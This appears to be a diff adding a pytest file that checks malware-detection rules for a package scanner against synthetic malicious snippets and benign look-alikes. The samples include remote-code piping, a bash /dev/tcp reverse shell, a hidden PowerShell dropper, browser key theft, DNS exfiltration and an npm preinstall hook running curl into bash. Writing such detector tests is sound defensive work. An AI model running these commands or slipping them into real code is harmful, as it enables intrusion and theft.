@@ -1,0 +1,124 @@
+"""Each YARA-backed rule on a small synthetic file that uses the technique, and on a
+look-alike that does not. Hosts are reserved example names; nothing here is ever run."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.analysis.builders import npm_tarball, run_rule, sdist
+from threatfeed.analysis import Engine
+from threatfeed.analysis.rules.base import Rule
+from threatfeed.analysis.rules.signature_rules import (
+    credential_harvesting_rule,
+    decode_and_execute_rule,
+    destructive_command_rule,
+    dns_exfiltration_rule,
+    executes_code_at_remote_url_rule,
+    persistence_rule,
+    powershell_dropper_rule,
+    reverse_shell_rule,
+)
+
+CASES: list[tuple[Rule, str, str, str]] = [
+    (
+        executes_code_at_remote_url_rule,
+        "run.py",
+        "import requests\nexec(requests.get('https://x.example.net/a.py').text)\n",
+        "import requests\nprint(requests.get('https://x.example.net/a.json').text)\n",
+    ),
+    (
+        executes_code_at_remote_url_rule,
+        "install.sh",
+        "curl -fsSL https://x.example.net/i.sh | sh\n",
+        "curl -fsSL https://x.example.net/i.sh -o notes.txt\n",
+    ),
+    (
+        decode_and_execute_rule,
+        "m.py",
+        "import base64\nexec(base64.b64decode(b'cHJpbnQoMSk='))\n",
+        "import base64\nprint(base64.b64decode(b'cHJpbnQoMSk='))\n",
+    ),
+    (
+        decode_and_execute_rule,
+        "m.js",
+        "eval(atob('Y29uc29sZS5sb2coMSk='));\n",
+        "console.log(atob('Y29uc29sZS5sb2coMSk='));\n",
+    ),
+    (
+        reverse_shell_rule,
+        "r.py",
+        "import socket, os, pty\ns = socket.socket()\ns.connect(('198.51.100.7', 4444))\n"
+        "os.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
+        "import socket\ns = socket.socket()\ns.connect(('198.51.100.7', 80))\ns.send(b'hi')\n",
+    ),
+    (
+        reverse_shell_rule,
+        "r.sh",
+        "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n",
+        "bash -c 'echo hello'\n",
+    ),
+    (
+        powershell_dropper_rule,
+        "p.py",
+        "import os\nos.system('powershell -w hidden -EncodedCommand "
+        "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA')\n",
+        "import os\nos.system('powershell -NoProfile Get-ChildItem')\n",
+    ),
+    (
+        powershell_dropper_rule,
+        "d.ps1",
+        "Invoke-WebRequest -Uri https://x.example.net/a.exe -OutFile $env:TEMP\\a.exe\n"
+        "Start-Process $env:TEMP\\a.exe -WindowStyle Hidden # powershell\n",
+        "Write-Output 'powershell is fine'\n",
+    ),
+    (
+        credential_harvesting_rule,
+        "c.py",
+        "import os\np = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data')\n"
+        "state = open(os.path.join(p, 'Local State')).read()\nkey = state['os_crypt']"
+        "['encrypted_key']\n",
+        "import os\nprint(os.getenv('LOCALAPPDATA'))\n",
+    ),
+    (
+        credential_harvesting_rule,
+        "w.js",
+        "const ext = 'nkbihfbeogaeaoehlefnkodbefgpgknn';\n",
+        "const ext = 'some-other-extension';\n",
+    ),
+    (
+        dns_exfiltration_rule,
+        "b.sh",
+        "nslookup $(whoami).x.example.net\n",
+        "nslookup example.net\n",
+    ),
+    (
+        persistence_rule,
+        "p.py",
+        "key = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n",
+        "key = r'Software\\Example\\Settings'\n",
+    ),
+    (
+        destructive_command_rule,
+        "k.js",
+        "require('child_process').exec('shutdown -s -t 0');\n",
+        "console.log('shutdown complete');\n",
+    ),
+]
+
+
+@pytest.mark.parametrize(("rule", "path", "bad", "good"), CASES)
+def test_rule_fires_on_technique_and_not_on_look_alike(
+    engine: Engine, rule: Rule, path: str, bad: str, good: str
+) -> None:
+    evidence = run_rule(engine, rule, sdist({f"tidy_strings/{path}": bad}))
+    assert evidence, f"{rule.__name__} missed {path}"
+    assert evidence[0]["file"].endswith(path)
+    assert evidence[0]["line"] >= 1
+    assert evidence[0]["signatures"]
+    assert run_rule(engine, rule, sdist({f"tidy_strings/{path}": good})) is None
+
+
+def test_signature_in_npm_package_json_hook(engine: Engine) -> None:
+    archive = npm_tarball(scripts={"preinstall": "curl https://x.example.net/a | bash"})
+    evidence = run_rule(engine, executes_code_at_remote_url_rule, archive)
+    assert evidence[0]["file"] == "package/package.json"
